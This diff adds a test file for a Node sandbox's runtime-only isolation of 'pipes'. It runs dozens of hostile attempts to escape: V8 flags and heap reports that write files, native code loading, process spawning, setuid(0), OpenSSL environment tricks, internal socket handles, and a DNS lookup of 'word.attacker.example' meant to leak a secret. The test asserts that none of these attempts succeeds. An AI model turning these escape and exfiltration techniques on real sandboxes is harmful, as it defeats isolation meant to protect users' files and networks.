@@ -1,0 +1,314 @@
+/**
+ * The promise: a pipe without permissions reads and writes no file but its own, opens no connection and starts nothing. Here only the
+ * runtime stands (Node's permission model and `lock-down.ts`), as on machines where the kernel offers no walls; hostile pipes use
+ * every public interface of Node by which Node, V8, OpenSSL or the C library open something themselves.
+ */
+import { createSocket, type Socket as Datagrams } from 'node:dgram';
+import { once } from 'node:events';
+import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import type { AddressInfo } from 'node:net';
+import { createServer, type Server } from 'node:net';
+import { join } from 'node:path';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { ran } from '../../packages/daemon/src/pipes/run.fixture.ts';
+import { temporaryFolder } from '../support/start-daemon.ts';
+import { sized } from './plan.ts';
+
+const SECRET = 'secret-caracal-5519';
+/** The kernel is left out. */
+const walls = {
+  list: [],
+  command: ({ args }: { args: readonly string[] }) => [process.execPath, ...args],
+};
+
+let home: string;
+let listener: Server;
+let datagrams: Datagrams;
+/** Whatever arrives at addresses of this machine. */
+const arrived: string[] = [];
+
+beforeAll(async () => {
+  listener = createServer((socket) => {
+    arrived.push('connection');
+    socket.destroy();
+  }).listen(0, '127.0.0.1');
+  datagrams = createSocket('udp4').bind(0, '127.0.0.1');
+  datagrams.on('message', () => arrived.push('datagram'));
+  await Promise.all([once(listener, 'listening'), once(datagrams, 'listening')]);
+});
+afterAll(() => {
+  listener.close();
+  datagrams.close();
+});
+
+beforeEach(() => {
+  home = temporaryFolder();
+  arrived.length = 0;
+  mkdirSync(join(home, 'folder'));
+  writeFileSync(join(home, 'victim'), SECRET);
+  writeFileSync(join(home, 'cert.pem'), CERTIFICATE);
+  writeFileSync(join(home, 'module.json'), JSON.stringify({ word: SECRET }));
+  writeFileSync(join(home, 'package.json'), JSON.stringify({ name: 'p', main: `${SECRET}.js` }));
+  writeFileSync(join(home, 'settings.env'), `WORD=${SECRET}\n`);
+  const map = { version: 3, sources: [`${SECRET}.ts`], names: [], mappings: 'AAAA' };
+  writeFileSync(join(home, 'map.json'), JSON.stringify(map));
+});
+afterEach(() => rmSync(home, { recursive: true, force: true }));
+
+/** Nothing of the person was written, added, told or sent, however the run ended. */
+async function expectNothingReached(
+  process: string,
+  options: { head?: string; memoryMb?: number } = {},
+) {
+  const before = readdirSync(home, { recursive: true }).sort();
+  const { memoryMb = 128, head = '' } = options;
+  const values = {
+    ...{ HOME: home, VICTIM: join(home, 'victim') },
+    ...{ TCP: (listener.address() as AddressInfo).port, UDP: datagrams.address().port },
+  };
+  const constants = Object.entries(values).map(
+    ([name, value]) => `const ${name} = ${JSON.stringify(value)};`,
+  );
+  const { end, logged } = await ran(
+    { head: `${head}\n${constants.join('\n')}`, process },
+    { walls, memoryMb },
+  );
+  const told = JSON.stringify([end, logged]);
+  expect(told).not.toContain(SECRET);
+  expect(told).not.toContain('REACHED');
+  expect(readFileSync(join(home, 'victim'), 'utf8')).toBe(SECRET);
+  expect(readdirSync(home, { recursive: true }).sort()).toEqual(before);
+  expect(arrived).toEqual([]);
+  return end;
+}
+
+const EXHAUST = 'const all = []; for (;;) all.push(new Array(1000).fill(Math.random()));';
+
+describe('a pipe that has V8 or Node write a file', () => {
+  const FLAGS = [
+    ['--redirect-code-traces', '--redirect-code-traces-to=VICTIM', '--trace-opt', '--trace-deopt'],
+    ['--trace-turbo', '--trace-turbo-path=HOME', '--trace-turbo-file-prefix=turbo'],
+    ['--prof', '--logfile=VICTIM', '--no-logfile-per-isolate'],
+    ['--perf-basic-prof', '--perf-basic-prof-path=HOME'],
+  ];
+  const HOT = `for (let i = 0; i < 20000; i++) hot(i);
+    await new Promise((resolve) => setTimeout(resolve, 200));`;
+  test.each(sized({ short: FLAGS.slice(0, 1), whole: FLAGS }))(
+    'by the flags of V8: %s',
+    async (...flags) => {
+      const set = flags.map((flag) => {
+        const text = flag.replace('VICTIM', join(home, 'victim')).replace('HOME', home);
+        return `try { v8.setFlagsFromString(${JSON.stringify(text)}) } catch {}`;
+      });
+      await expectNothingReached(`${set.join('\n')}\n${HOT}`, {
+        head: `import v8 from 'node:v8';
+        function hot(a) { let s = 0; for (let i = 0; i < 1000; i++) s += i ^ a; return s }`,
+      });
+    },
+  );
+
+  test('by its report when the heap is exhausted', async () => {
+    await expectNothingReached(
+      `try { Object.assign(process.report, { directory: HOME, filename: 'victim', reportOnFatalError: true }) } catch {}
+       ${EXHAUST}`,
+      { memoryMb: 64 },
+    );
+  });
+
+  test('by a heap snapshot when the heap is exhausted', async () => {
+    await expectNothingReached(
+      `for (const code of [() => v8.setHeapSnapshotNearHeapLimit(1), () => process.chdir(HOME)]) try { code() } catch {}
+       ${EXHAUST}`,
+      { head: `import v8 from 'node:v8';`, memoryMb: 64 },
+    );
+  });
+});
+
+/** Each may throw; one that returns the word of a file, or says REACHED, has got through. */
+const ATTEMPTS: Record<string, string> = {
+  'a report by call': "process.report.writeReport(VICTIM); return 'REACHED'",
+  'a report by its settings':
+    "Object.assign(process.report, { directory: HOME, reportOnUncaughtException: true }); return 'REACHED'",
+  'a heap snapshot': "v8.writeHeapSnapshot(HOME + '/heap'); return 'REACHED'",
+  coverage: 'process.env.NODE_V8_COVERAGE = HOME; v8.takeCoverage(); v8.stopCoverage()',
+  'the compile cache':
+    "module.enableCompileCache(HOME + '/cache'); module.flushCompileCache(); return 'REACHED'",
+  'the compile cache by the environment':
+    "process.env.NODE_COMPILE_CACHE = HOME; module.enableCompileCache(); return 'REACHED'",
+  'a trace': "trace.createTracing({ categories: ['node', 'v8'] }).enable(); return 'REACHED'",
+  'a profile by the inspector':
+    "const session = new inspector.Session(); session.connect(); return 'REACHED'",
+  'a profile by V8': 'const profile = v8.startCpuProfile(); return String(profile.stop()).length',
+  'the inspector of itself': "inspector.open(0, '127.0.0.1'); return 'REACHED'",
+  'the inspector by a signal': "process.kill(process.pid, 'SIGUSR1'); return 'REACHED'",
+  'the inspector of another': "process._debugProcess(process.ppid); return 'REACHED'",
+  'certificates of the environment': `process.env.SSL_CERT_FILE = HOME + '/cert.pem'; process.env.SSL_CERT_DIR = HOME;
+    const own = tls.getCACertificates('system').map((pem) => new crypto.X509Certificate(pem).subject);
+    return own.some((subject) => subject.includes('caracal')) ? 'REACHED' : ''`,
+  'extra certificates of the environment': `process.env.NODE_EXTRA_CA_CERTS = HOME + '/cert.pem';
+    return tls.getCACertificates('extra').length > 0 ? 'REACHED' : ''`,
+  'a module of OpenSSL': `process.env.OPENSSL_MODULES = HOME; process.env.OPENSSL_CONF = VICTIM;
+    crypto.setFips(false); return crypto.getFips() ? 'REACHED' : ''`,
+  'an engine of OpenSSL':
+    "process.env.OPENSSL_ENGINES = HOME; crypto.setEngine('victim'); return 'REACHED'",
+  'an engine of TLS': "tls.createSecureContext({ clientCertEngine: VICTIM }); return 'REACHED'",
+  'a time zone': `process.env.TZ = ':' + VICTIM; return new Date(0).toString()`,
+  'the environment of the C library':
+    "Object.getOwnPropertyDescriptor(process, 'env').configurable && 'REACHED'",
+  'a source map': `const file = ctx.outputFolder + '/mapped.cjs';
+    fs.writeFileSync(file, 'exports.stack = new Error().stack;\\n//# sourceMappingURL=file://' + HOME + '/map.json');
+    process.setSourceMapsEnabled(true); return module.createRequire(import.meta.url)(file).stack`,
+  'a source map by its finder': "return JSON.stringify(module.findSourceMap(HOME + '/map.json'))",
+  'settings of a file': 'process.loadEnvFile(HOME + "/settings.env"); return process.env.WORD',
+  'a database':
+    "new (process.getBuiltinModule('node:sqlite').DatabaseSync)(VICTIM); return 'REACHED'",
+  'storage of pages': "globalThis.localStorage.setItem('a', 'b'); return 'REACHED'",
+  'the system interface of WebAssembly':
+    "new (process.getBuiltinModule('node:wasi').WASI)({ version: 'preview1', preopens: { '/': HOME } }); return 'REACHED'",
+  'foreign functions': "Object.keys(process.getBuiltinModule('node:ffi')); return 'REACHED'",
+  'native code': "process.dlopen({ exports: {} }, VICTIM); return 'REACHED'",
+  'native code by a require':
+    "module.createRequire(import.meta.url)(HOME + '/a.node'); return 'REACHED'",
+  'bindings of the runtime': "process.binding('fs'); return 'REACHED'",
+  'linked bindings': "process._linkedBinding('fs'); return 'REACHED'",
+  'a module of a file':
+    "return JSON.stringify(module.createRequire(import.meta.url)(HOME + '/module.json'))",
+  'a module of a file by an import':
+    "return JSON.stringify(await import('file://' + HOME + '/module.json', { with: { type: 'json' } }))",
+  'a package by its folder': 'module.createRequire(import.meta.url)(HOME)',
+  'a package by its finder':
+    'return String(module.findPackageJSON("./x.js", "file://" + HOME + "/x.js")).includes(HOME) && "REACHED"',
+  'a package by its reader': 'return JSON.stringify(module._readPackage(HOME))',
+  'a thread':
+    "new (process.getBuiltinModule('worker_threads').Worker)('', { eval: true }); return 'REACHED'",
+  'hooks in a thread': "module.register('data:text/javascript,'); return 'REACHED'",
+  'a process': "process.getBuiltinModule('child_process').spawnSync('/bin/true'); return 'REACHED'",
+  'a process by its handle':
+    "new (process.getBuiltinModule('child_process').ChildProcess)().spawn({ file: '/bin/true', args: [], stdio: [] }); return 'REACHED'",
+  'a process in its place': "process.execve('/bin/true'); return 'REACHED'",
+  'a process of the cluster': "process.getBuiltinModule('cluster').fork(); return 'REACHED'",
+  'a run of tests': `const events = process.getBuiltinModule('node:test').run({ files: [VICTIM], isolation: 'none' });
+    for await (const event of events) if (event.type === 'test:pass') return 'REACHED'`,
+  'the history of a prompt': `const repl = process.getBuiltinModule('repl').start({ input: new stream.PassThrough(), output: new stream.PassThrough() });
+    await new Promise((done) => repl.setupHistory(HOME + '/history', done))`,
+  'a connection by TLS': `const { _handle } = new tls.TLSSocket();
+    fs.stat(import.meta.filename, () => {});
+    const [request] = process._getActiveRequests(); await pause();
+    _handle._parent.connect(Object.assign(request, { oncomplete: () => {} }), '127.0.0.1', TCP)`,
+  'a connection by a handle of TLS': `const { _handle } = new tls.TLSSocket();
+    return new net.Socket({ handle: _handle._parent }).connect(TCP, '127.0.0.1')`,
+  'a connection by HTTP': "http.get({ port: TCP, host: '127.0.0.1' }).on('error', () => {})",
+  'a connection by an agent': "new http.Agent().createConnection({ port: TCP, host: '127.0.0.1' })",
+  'a connection by HTTP/2': "process.getBuiltinModule('http2').connect('http://127.0.0.1:' + TCP)",
+  'a connection by fetch': "await fetch('http://127.0.0.1:' + TCP)",
+  'a connection that accepts': "net.createServer().listen(0); return 'REACHED'",
+  'a listener by TLS': `const { _handle } = new tls.TLSSocket();
+    if (_handle._parent.bind('127.0.0.1', 0) === 0) return 'REACHED'`,
+  'a name by the servers of DNS': `const got = requests();
+    try { dns.setServers(['127.0.0.1:' + UDP]) } catch {}
+    fs.stat(import.meta.filename, () => {}); await pause();
+    const query = got.FSREQCALLBACK[0]; query.oncomplete = () => {};
+    got.DNSCHANNEL[0].queryTxt(query, 'word.attacker.example'); await pause()`,
+  'a name by an own resolver':
+    "new dns.Resolver().setServers(['127.0.0.1:' + UDP]); return 'REACHED'",
+  'the servers of DNS': "dns.getServers(); return 'REACHED'",
+  'the servers of DNS by a promise':
+    "dns.promises.setServers(['127.0.0.1:' + UDP]); return 'REACHED'",
+  'a datagram':
+    "process.getBuiltinModule('dgram').createSocket('udp4').send('x', UDP, '127.0.0.1')",
+  'inner objects by hooks': `const got = requests(); fs.stat(import.meta.filename, () => {}); await pause();
+    return Object.values(got).flat().some((each) => each.constructor !== Object) && 'REACHED'`,
+  'inner objects of now': `const got = await new Promise((resolve) =>
+      fs.stat(import.meta.filename, () => resolve(async_hooks.executionAsyncResource())));
+    return got.constructor !== Object && 'REACHED'`,
+  'inner objects by a list': "return process._getActiveHandles().length > 0 && 'REACHED'",
+  'another user': 'process.setuid(0); process.setgid(0)',
+};
+
+const HEAD = `
+const { v8, module, crypto, tls, net, http, dns, fs, stream, inspector, async_hooks } = Object.fromEntries(
+  ['v8', 'module', 'crypto', 'tls', 'net', 'http', 'dns', 'fs', 'stream', 'inspector', 'async_hooks'].map((name) => [name, process.getBuiltinModule(name)]));
+const trace = process.getBuiltinModule('trace_events');
+const pause = (ms = 50) => new Promise((resolve) => setTimeout(resolve, ms));
+const requests = () => {
+  const got = {};
+  async_hooks.createHook({ init: (id, type, cause, resource) => (got[type] ??= []).push(resource) }).enable();
+  return got;
+};
+for (const name of ['uncaughtException', 'unhandledRejection']) process.removeAllListeners(name).on(name, () => {});
+`;
+
+test('a pipe that has Node, V8, OpenSSL or the C library open something itself reaches nothing', async () => {
+  const tries = Object.entries(ATTEMPTS).map(
+    ([name, code]) => `
+    try {
+      const told = await Promise.race([(async () => { ${code} })(), pause(300)]);
+      if (told) ctx.log.info(${JSON.stringify(name)} + ': ' + told);
+    } catch (error) { ctx.log.debug(String(error.stack)) }`,
+  );
+  const code = `${tries.join('\n')}\nawait pause(); return ${tries.length};`;
+  const end = await expectNothingReached(code, { head: HEAD });
+  expect(end).toMatchObject({ status: 'completed', itemsProcessed: tries.length });
+});
+
+describe('every function of every module of Node, called with the path of a file', () => {
+  /** They end the process, wait for ever, or write to its own output. */
+  const LEFT_OUT =
+    /^(_|process\.(exit|reallyExit|abort|_|openStdin|hrtime|emit|removeAll|set|once|on|add|prepend|nextTick)|readline|console|repl|test|timers|assert|events|http\.(get|request)|https)/;
+  const SWEEP = `
+    const seen = new Set(); let calls = 0;
+    async function call(name, f, self, args) {
+      calls += 1;
+      try {
+        let told = Reflect.apply(f, self, args);
+        if (told && typeof told.on === 'function') told.on('error', () => {});
+        told = await Promise.race([told, new Promise((resolve) => setTimeout(resolve, 20))]);
+        const text = Buffer.isBuffer(told) ? told.toString() : String(typeof told === 'object' ? JSON.stringify(told) : told);
+        if (text.includes('caracal')) ctx.log.info('REACHED by ' + name);
+      } catch {}
+    }
+    for (const name of module.builtinModules) {
+      const own = process.getBuiltinModule(name);
+      if (!own || seen.has(own)) continue;
+      seen.add(own);
+      const owners = [[name, own], [name + '.promises', own.promises], [name + '.default', own.default]];
+      for (const [path, owner] of owners) {
+        for (const key of Object.getOwnPropertyNames(Object(owner))) {
+          const full = path + '.' + key;
+          if (LEFT_OUT.test(full) || LEFT_OUT.test(key)) continue;
+          let value; try { value = owner[key] } catch {}
+          if (typeof value !== 'function') continue;
+          for (const args of ARGUMENTS) await call(full, value, owner, args);
+        }
+      }
+    }
+    return calls;`;
+  const SETS = [
+    "[[VICTIM], [VICTIM, 'utf8'], [VICTIM, () => {}]]",
+    "[[VICTIM, 'written'], [VICTIM, ctx.outputFolder + '/copy'], [ctx.outputFolder + '/own', VICTIM]]",
+    "[[HOME + '/made'], [HOME + '/made', 'written'], [VICTIM, 0o777, () => {}], [VICTIM, 1, 2]]",
+    "[[Buffer.from(VICTIM)], [new URL('file://' + VICTIM)], [{ path: VICTIM, filename: VICTIM, file: VICTIM }]]",
+  ];
+  test.each(sized({ short: SETS.slice(0, 2), whole: SETS }))('%s', async (args) => {
+    const end = await expectNothingReached(
+      `const ARGUMENTS = ${args}; const LEFT_OUT = ${LEFT_OUT};
+       fs.writeFileSync(ctx.outputFolder + '/own', 'own'); ${SWEEP}`,
+      { head: HEAD },
+    );
+    expect(end).toMatchObject({ status: 'completed', errorMessage: null });
+    expect(end.itemsProcessed).toBeGreaterThan(1_000);
+  });
+});
+
+/** Of nobody: its subject has a word that tests look for. */
+const CERTIFICATE = `-----BEGIN CERTIFICATE-----
+MIIBkjCCATmgAwIBAgIUcuJSkEG5pWXKIvjVtxImtQ04KeIwCgYIKoZIzj0EAwIw
+HjEcMBoGA1UEAwwTc2VjcmV0LWNhcmFjYWwtNTUxOTAgFw0yNjExMTcwMTM0MTVa
+GA8yMTI2MTAyNDAxMzQxNVowHjEcMBoGA1UEAwwTc2VjcmV0LWNhcmFjYWwtNTUx
+OTBZMBMGByqGSM49AgEGCCqGSM49AwEHA0IABKMhEx7ybvTDvuOdPhaJdo779Yqe
+wAqPDyDuJepoQwhoPdWVJUhGHlZk/wYYJSFToIsBl7R0T5vgUgIs81jTuaajUzBR
+MB0GA1UdDgQWBBRGbaiDjQJuOt+IMbZ36detP5uEjzAfBgNVHSMEGDAWgBRGbaiD
+jQJuOt+IMbZ36detP5uEjzAPBgNVHRMBAf8EBTADAQH/MAoGCCqGSM49BAMCA0cA
+MEQCIHhtdhdFLJA/Ka7m1Yj+yet9ylRQaT+hLF/t1s1hZPtsAiAM4SDOQDCWN/BM
+nS8g4SGxZX3+HAIFuwj636QGMrpBxw==
+-----END CERTIFICATE-----`;
